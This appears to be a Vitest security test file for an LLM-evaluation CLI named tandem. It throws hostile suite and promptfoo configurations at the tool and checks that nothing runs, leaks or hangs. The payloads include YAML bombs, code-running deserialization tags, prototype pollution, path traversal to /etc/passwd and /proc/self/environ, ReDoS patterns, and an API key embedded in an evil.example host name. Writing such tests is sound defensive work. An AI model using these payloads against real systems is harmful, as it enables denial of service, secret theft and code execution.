import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, onTestFinished, test, vi } from "vitest";
import { Tandem } from "../e2e/tandem.ts";
import type { Begun, Ended } from "../e2e/warm.ts";
import { temporaryFolder } from "../store/batch.ts";
import { terminalHarm } from "./harm.ts";
import { inside } from "./inside.ts";
import { openTally } from "./tally.ts";

vi.setConfig({ testTimeout: 400_000 });

const tally = openTally("suites of strangers", 100);

/** A command that has not ended by then hangs. */
const longestMs = 90_000;

const plain = (more = "", target = ""): string => `name: desk
dataset: p.csv
case: { key: id }
deployments: { prod: { base_url: "http://127.0.0.1:9" } }
targets: { one: { deployment: prod, endpoint: video-bots, example_id: a${target} } }
${more}
`;

/** A text that no output may hold: it stands in a file outside of the folder. */
const secret = ["only", "for", "its", "owner", "7261"].join("-");

/** A folder with a dataset and, beside it, what nobody should reach. The working folder is it while the test goes on. */
function strangersFolder(): string {
  const [top, before] = [temporaryFolder(), process.cwd()];
  onTestFinished(() => process.chdir(before));
  const folder = join(top, "suite");
  mkdirSync(folder);
  writeFileSync(join(top, "secret.txt"), `${secret}\n`);
  writeFileSync(join(top, "secret.csv"), `id,input_prompt\n${secret},${secret}\n`);
  writeFileSync(join(folder, "p.csv"), "id,input_prompt,expected\nk1,When?,nine\nk2,Where?,here\n");
  process.chdir(folder);
  return folder;
}

/** Signs of harm in what a command has done with a suite that it should refuse, or read as text. */
const harmOf = ({ code, out, err }: { code: number | null; out: string; err: string }): string[] => [
  ...terminalHarm(out + err),
  ...(code === 0 || code === 2 || code === 3 ? [] : [`it ends with ${code}: ${err.slice(0, 300)}`]),
  ...(`${out}${err}`.includes(secret) ? ["it tells what stands outside"] : []),
  ...(`${out}${err}`.length > 100_000 ? [`it says ${out.length + err.length} characters`] : []),
  ...(/\n\s+at .*\.(?:ts|js):\d+|fault in tandem itself/.test(out + err) ? [`a stack: ${err.slice(0, 300)}`] : []),
];

const levels = (open: string, close: string, count: number): string => `${open.repeat(count)}1${close.repeat(count)}`;
const laughs = (merge: string): string =>
  [
    "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]",
    ...Array.from("bcdefghi", (name, at) => {
      const before = String.fromCharCode("a".charCodeAt(0) + at);
      return merge === "<<"
        ? `${name}: &${name} { <<: [${Array(9).fill(`*${before}`).join(", ")}] }`
        : `${name}: &${name} [${Array(9).fill(`*${before}`).join(", ")}]`;
    }),
  ].join("\n");

/** Suites that are no suites of a friend. */
const suites: Readonly<Record<string, string>> = {
  "a billion laughs": `${laughs("")}\n${plain()}`,
  "a billion merged laughs": `${laughs("<<").replace("a: &a [", "a: &a {x: [").replace("lol]", "lol]}")}\n${plain()}`,
  "laughs in scorers": plain(`${laughs("").replaceAll(/^(\w):/gm, "x$1:")}\nscorers: [*i]`),
  "an alias of itself": `a: &a [*a]\n${plain()}`,
  "a mapping that holds itself": `a: &a { b: *a }\n${plain()}`,
  "a thousand anchors": `${Array.from({ length: 1_000 }, (_none, at) => `a${at}: &a${at} ${at === 0 ? "x" : `*a${at - 1}`}`).join("\n")}\n${plain()}`,
  "ten thousand aliases": `a: &a x\nb: [${Array(10_000).fill("*a").join(",")}]\n${plain()}`,
  "thirty thousand keys": `${Array.from({ length: 30_000 }, (_none, at) => `k${at}: 1`).join("\n")}\n${plain()}`,
  "lists without end": `x: ${levels("[", "]", 50_000)}`,
  "mappings without end": `x: ${levels("{a: ", "}", 50_000)}`,
  "blocks without end": Array.from({ length: 3_000 }, (_none, at) => `${" ".repeat(at)}a:`).join("\n"),
  "indents without end": `a:\n${" ".repeat(1_000_000)}b: 1`,
  "a scalar of 20 MB": `name: "${"x".repeat(20_000_000)}"\n${plain()}`,
  "a comment of 20 MB": `# ${"x".repeat(20_000_000)}\n${plain()}`,
  "a tag of JavaScript": plain("scorers: [!!js/function 'function () { process.exit(9) }']"),
  "a tag of Python": plain("scorers: [!!python/object/apply:os.system ['touch owned']]"),
  "a tag of bytes": `name: !!binary AAAA\n${plain().replace("name: desk\n", "")}`,
  "a tag of sets": plain("scorers: !!set { contains }"),
  "a tag of dates": plain().replace("desk", "!!timestamp 2001-12-14"),
  "a directive": `%YAML 9.9\n%TAG ! tag:evil.example,2000:\n---\n${plain()}`,
  "three documents": `${plain()}---\n${plain()}---\n${plain()}`,
  "the same key twice": `${plain()}name: other\n`,
  "a prototype": `__proto__: { polluted: 1 }\n${plain()}`,
  "a merged prototype": `<<: { __proto__: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } }\n${plain()}`,
  "a deployment called prototype": plain().replaceAll("prod", "__proto__"),
  "a target called constructor": plain().replace("one:", "constructor:"),
  "half characters": plain().replace("desk", '"\\ud83d"'),
  "a nul": plain().replace("desk", '"a\\0b"'),
  "controls of a terminal": plain().replace("desk", '"\\e[31m\\e]0;owned\\a"'),
  "a command of a CI": plain().replace("desk", '"::error::owned"'),
  "turned directions in a key": plain('"\\u202edrowssap": 1'),
  "a number that is none": plain("repeats: .nan"),
  "a number without end": plain("repeats: .inf"),
  "a number too large": plain("repeats: 1e308"),
  "a billion repeats": plain("repeats: 1000000000"),
  "a negative number": plain("repeats: -1"),
  "an octal number": plain("repeats: 0o777777777777777777777"),
  "a matrix of a billion": plain(
    `matrix: { ${Array.from({ length: 9 }, (_none, at) => `d${at}: [${Array.from({ length: 10 }, (_value, value) => value).join(",")}]`).join(", ")} }`,
  ),
  "a list of thousands of targets": plain().replace(
    /targets: .*/,
    `targets: { ${Array.from({ length: 5_000 }, (_none, at) => `t${at}: { deployment: prod, endpoint: video-bots, example_id: a }`).join(", ")} }`,
  ),
  "a thousand scorers": plain(
    `scorers: [${Array.from({ length: 1_000 }, (_none, at) => `{ name: s${at}, type: contains }`).join(", ")}]`,
  ),
  "a concurrency without measure": plain().replace('127.0.0.1:9"', '127.0.0.1:9", concurrency: 1000000000'),
  "a rate that is none": plain().replace('127.0.0.1:9"', '127.0.0.1:9", rate: "1e999/s"'),
  "a timeout without measure": plain().replace('127.0.0.1:9"', '127.0.0.1:9", timeout: 99999999999999d'),
  "an address of files": plain().replace("http://127.0.0.1:9", "file:///etc/passwd"),
  "an address of data": plain().replace("http://127.0.0.1:9", "data:text/html,x"),
  "an address with a login": plain().replace("http://127.0.0.1:9", "http://me:word@evil.example"),
  "an address with a line break": plain().replace("http://127.0.0.1:9", "http://127.0.0.1:9\\r\\nX-Evil: 1"),
  "a header with a line break": plain().replace('127.0.0.1:9"', '127.0.0.1:9", headers: { X: "a\\r\\nX-Evil: 1" }'),
  "a header that is Host": plain().replace(
    '127.0.0.1:9"',
    '127.0.0.1:9", headers: { Host: evil.example, Content-Length: "1" }',
  ),
  "a variable of tandem in an address": plain().replace("http://127.0.0.1:9", "https://${TANDEM_API_KEY}.evil.example"),
  "a local folder outside": plain().replace("http://127.0.0.1:9", "local:../../../../etc"),
  "a dataset outside": plain().replace("p.csv", "../secret.csv\\0.csv"),
  "a dataset of a device": plain().replace("p.csv", "/dev/zero"),
  "a dataset that waits": plain().replace("p.csv", "/dev/stdin"),
  "a dataset of processes": plain().replace("p.csv", "/proc/self/environ"),
  "a dataset that is the suite": plain().replace("p.csv", "s.yaml"),
  "a dataset of an address": plain().replace("p.csv", "https://evil.example/p.csv"),
  "a body with a loop": plain("", ', body: { q: "{% for i in (1..1000000000) %}x{% endfor %}" }'),
  "a body with loops in loops": plain(
    "",
    `, body: { q: "${"{% for i in (1..1000) %}".repeat(6)}x${"{% endfor %}".repeat(6)}" }`,
  ),
  "a body that grows": plain(
    "",
    `, body: { q: "{% assign a = 'xxxxxxxxxx' %}${"{% assign a = a | append: a %}".repeat(60)}{{ a }}" }`,
  ),
  "a body that includes": plain(
    "",
    ", body: { q: \"{% include '../secret.txt' %}{% render '../secret.txt' %}{% layout '../secret.txt' %}\" }",
  ),
  "a body that looks at a prototype": plain(
    "",
    ', body: { q: "{{ input_prompt.constructor.constructor }}{{ __proto__ }}" }',
  ),
  "a body of many levels": plain("", `, body: ${levels("{ a: ", "}", 90)}`),
};

/**
 * The end of a command; null: it hangs, and is killed. One that hangs in a process that ran others before is told, and tried in one
 * of its own, as people run it.
 */
async function within(tandem: Tandem, ...words: string[]) {
  const end = await endInTime(tandem.begin(...words));
  if (end !== null) return end;
  process.stdout.write(`${words.join(" ")} hangs; it is tried in a process of its own\n`);
  return endInTime(tandem.start(...words));
}

async function endInTime({ child, ended }: Begun): Promise<Ended | null> {
  const late = new Promise<null>((resolve) => setTimeout(() => resolve(null), longestMs).unref());
  const end = await Promise.race([ended, late]);
  if (end === null) child.kill("SIGKILL");
  return end;
}

test("a suite of a stranger is refused or read, in time and in bounds, and runs nothing", async () => {
  const tandem = new Tandem().file("suite/p.csv", "id,input_prompt,expected\nk1,When?,nine\nk2,Where?,here\n");
  tandem.file("secret.csv", `id,input_prompt\n${secret},${secret}\n`).file("secret.txt", secret);
  for (const [what, text] of Object.entries(suites)) {
    tandem.file("suite/s.yaml", text);
    const end = await within(tandem, "check", "--offline", "suite/s.yaml");
    tally.tried(what, "check", end === null ? ["it hangs"] : harmOf(end));
  }
  expect(readdirSync(join(tandem.folder, "suite")).toSorted()).toEqual(["p.csv", "s.yaml"]);
  expect(tally.through()).toEqual([]);
});

/** Patterns that a matcher without measure never ends with, on this text. */
const endless = `${"a".repeat(50_000)}!`;
const patterns = [
  "^(a+)+$",
  "^(a|a)*$",
  "^(a|aa)+$",
  "(.*)*\\u00e9",
  "^(?:a*)*b",
  "(a*)*b",
  "^(\\w+\\s?)*$",
  "(?=(a+))a*b\\1",
  "^(([a-z])+.)+[A-Z]([a-z])+$",
  "(x+x+)+y|(a+a+)+y",
  "a{1,65535}{1,65535}b",
  "((a{0,9999}){0,9999}){0,9999}b",
  `${"(".repeat(2_000)}a${")*".repeat(2_000)}b`,
  `(?:${Array(2_000).fill("a*").join("")})b`,
  "(?<!a+)b",
  "[^]*[^]*[^]*[^]*b",
];

/** A suite with one scorer that looks for the pattern in a stored answer. */
const looking = (pattern: string, where: string): string => `name: desk
dataset: p.csv
case: { key: id }
targets: { old: { answers: ${where === "a path into JSON" ? "json" : "old"} } }
scorers: [${
  {
    "a scorer": `{ name: found, type: regex, value: ${JSON.stringify(pattern)} }`,
    "a path into JSON": `{ name: found, type: json-path, path: ${JSON.stringify(`$[?search(@, '${pattern.replaceAll("\\", "\\\\")}')]`)} }`,
  }[where]
}]
`;

test("a pattern that never ends is ended, in a scorer and in a path into JSON", async () => {
  const sheet = (pattern: string): string =>
    `id,input_prompt,expected,old,json\nk1,When?,"${pattern.replaceAll('"', '""')}","${endless}","[""${endless}""]"\n`;
  for (const where of ["a scorer", "a path into JSON"]) {
    const friend = new Tandem().file("p.csv", sheet("a+!")).file("suite.yaml", looking("a+!", where));
    const sound = await within(friend, "run", "suite.yaml", "--quiet");
    expect(sound?.out, sound?.err).toContain("100 %");
    for (const [at, pattern] of patterns.entries()) {
      // Both places have one matcher.
      if (where !== "a scorer" && at % 3 !== 0) continue;
      const tandem = new Tandem().file("p.csv", sheet(pattern)).file("suite.yaml", looking(pattern, where));
      const end = await within(tandem, "run", "suite.yaml", "--quiet");
      tally.tried(
        `pattern ${at}: ${pattern.slice(0, 40)}`,
        where,
        end === null ? ["it hangs"] : harmOf(end).filter((sign) => !/ends with [14]:/.test(sign)),
      );
    }
  }
  expect(tally.through()).toEqual([]);
});

/** Files beside a suite that a prompt names. */
const promptFiles: readonly [what: string, path: string, make?: (folder: string) => void][] = [
  ["a path outside", "../secret.txt"],
  ["an absolute path", "/etc/passwd"],
  ["an address of a file", "file://../secret.txt"],
  ["a device", "/dev/zero"],
  ["processes", "/proc/self/environ"],
  ["a link outside", "link.txt", (folder) => symlinkSync("../secret.txt", join(folder, "link.txt"))],
  ["a link to a device", "zero.txt", (folder) => symlinkSync("/dev/zero", join(folder, "zero.txt"))],
  ["a link to itself", "loop.txt", (folder) => symlinkSync("loop.txt", join(folder, "loop.txt"))],
  ["a pipe", "pipe.txt", (folder) => void execFileSync("mkfifo", [join(folder, "pipe.txt")])],
  ["a folder", "folder.txt", (folder) => mkdirSync(join(folder, "folder.txt"))],
  ["a folder of many files", "*.txt"],
  ["a pattern outside", "../*.txt"],
  ["a nul", "a\\0b.txt"],
  ["100 MB", "large.txt", (folder) => writeFileSync(join(folder, "large.txt"), Buffer.alloc(100_000_000, "x"))],
  ["no text", "bytes.txt", (folder) => writeFileSync(join(folder, "bytes.txt"), Buffer.from([0xff, 0xfe, 0, 0xd8]))],
  [
    "a template without end",
    "loop.liquid",
    (folder) => writeFileSync(join(folder, "loop.liquid"), "{% for i in (1..1000000000) %}x{% endfor %}"),
  ],
  [
    "a chat of many levels",
    "deep.json",
    (folder) => writeFileSync(join(folder, "deep.json"), levels("[", "]", 20_000)),
  ],
  [
    "a template that includes",
    "include.txt",
    (folder) => writeFileSync(join(folder, "include.txt"), "{% include '../secret.txt' %}{{ input_prompt }}"),
  ],
];

test.skipIf(process.platform === "win32")("a prompt file is not waited for, and none outside is told", async () => {
  const suiteOf = (path: string): string => `dataset: p.csv
deployments: { prod: { base_url: "http://127.0.0.1:9" } }
matrix: { deployments: [prod], endpoint: chat-completions, models: [m], vary: { prompt: ["${path}"] } }
`;
  const friend = new Tandem()
    .file("p.csv", "id,input_prompt\nk1,When?\n")
    .file("good.txt", "Answer {{ input_prompt }}");
  expect(
    await within(friend.file("suite.yaml", suiteOf("good.txt")), "check", "--offline", "suite.yaml"),
  ).toMatchObject({
    code: 0,
  });
  for (const [what, path, make] of promptFiles) {
    const tandem = new Tandem().file("p.csv", "id,input_prompt\nk1,When?\n");
    make?.(tandem.folder);
    tandem.file("suite.yaml", suiteOf(path));
    const end = await within(tandem, "check", "--offline", "suite.yaml");
    tally.tried(what, "check", end === null ? ["it hangs"] : harmOf(end));
  }
  expect(tally.through()).toEqual([]);
});

/** Files of promptfoo, and others, in a folder that somebody gives away. */
const promptfoo: Readonly<Record<string, string>> = {
  "prompts outside":
    "prompts: [file://../secret.txt, file:///etc/passwd]\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: x } }]",
  "tests outside": "prompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: file://../secret.csv",
  "variables outside": "prompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: file://../secret.txt } }]",
  "a module of tests": "prompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: file://evil.js",
  "a provider that runs":
    "prompts: ['{{q}}']\nproviders: ['exec: touch owned', 'file://evil.js', 'python:evil.py']\ntests: [{ vars: { q: x } }]",
  laughs: `${laughs("")}\nprompts: *i\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: x } }]`,
  "an address of tests": "prompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: https://evil.example/tests.csv",
  "a script in JavaScript":
    "prompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: x }, assert: [{ type: javascript, value: 'process.exit(9)' }] }]",
  "a reference outside": "prompts: ['{{q}}']\nproviders: [$ref: ../secret.txt]\ntests: [{ $ref: '../secret.txt#/x' }]",
  "a pattern of files outside": "prompts: [file://../*.txt]\nproviders: [openai:gpt-4]\ntests: ../*.csv",
  "a name that writes": `description: "../../owned"\nprompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: x } }]`,
  "a variable in a prompt":
    "prompts: ['{{q}} {{env.STRANGE_KEY}} {{ env[\"STRANGE_KEY\"] }}']\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: '{{env.STRANGE_KEY}} ${STRANGE_KEY}' } }]",
  "a variable in a check":
    "prompts: ['{{q}}']\nproviders: [openai:gpt-4]\ntests: [{ vars: { q: x }, assert: [{ type: contains, value: '{{env.STRANGE_KEY}}' }] }]",
  "a transform that runs": `prompts: ['{{q}}']\nproviders: [{ id: 'http://127.0.0.1:9/x', config: { body: { q: '{{prompt}}' }, transformResponse: "require('fs').writeFileSync('owned', '')" } }]\ntests: [{ vars: { q: x }, options: { transform: "process.exit(9)" } }]`,
  "extensions that run":
    "prompts: ['{{q}}']\nproviders: ['http://127.0.0.1:9/x']\nextensions: [file://evil.js:hook]\nnunjucksFilters: { f: ./evil.js }\ntests: [{ vars: { q: '{{ x | f }}' } }]",
  "no mapping": "- 1\n- 2",
  nothing: "",
};

/** Such a folder with a configuration of promptfoo, and code that it may name. */
function folderOfPromptfoo(config: string): string {
  const folder = strangersFolder();
  writeFileSync(join(folder, "promptfooconfig.yaml"), config);
  for (const name of ["evil.js", "evil.py"])
    writeFileSync(join(folder, name), "require('fs').writeFileSync('owned', '')\n");
  return folder;
}

test.skipIf(process.platform === "win32")(
  "init and run on the folder of a stranger read nothing outside, run nothing and write only there",
  async () => {
    vi.stubEnv("STRANGE_KEY", secret);
    onTestFinished(() => void vi.unstubAllEnvs());
    for (const [what, text] of Object.entries(promptfoo)) {
      let folder = folderOfPromptfoo(text);
      for (const words of [
        ["init", "promptfooconfig.yaml"],
        ["init", "."],
        ["run", "promptfooconfig.yaml"],
      ]) {
        if (words[0] === "run") folder = folderOfPromptfoo(text);
        const end = await inside(...words);
        const made = readdirSync(folder, { recursive: true, encoding: "utf8" });
        const texts = made
          .filter((name) => /\.(?:ya?ml|csv|jsonl|mjs|md)$/.test(name))
          .map((name) => execFileSync("cat", [join(folder, name)], { encoding: "utf8" }));
        tally.tried(what, words.join(" "), [
          ...harmOf({ ...end, code: end.code === 1 ? 0 : end.code }),
          ...(texts.some((each) => each.includes(secret) || /root:.*:0:0/.test(each))
            ? ["it copies what stands outside"]
            : []),
          ...(existsSync(join(folder, "owned")) || existsSync(join(folder, "../owned")) ? ["it ran something"] : []),
          ...readdirSync(join(folder, ".."))
            .filter((name) => !["suite", "secret.txt", "secret.csv"].includes(name))
            .map((name) => `it made ${name} outside`),
        ]);
      }
    }
    const odd = strangersFolder();
    symlinkSync("/dev/zero", join(odd, "zero.csv"));
    symlinkSync("../secret.csv", join(odd, "outside.csv"));
    execFileSync("mkfifo", [join(odd, "pipe.csv")]);
    mkdirSync(join(odd, "folder.csv"));
    for (const name of ["zero.csv", "pipe.csv", "folder.csv", "nowhere.csv"]) {
      const end = await inside("init", name);
      tally.tried(name, "init", harmOf(end));
    }
    expect(tally.through()).toEqual([]);
  },
);
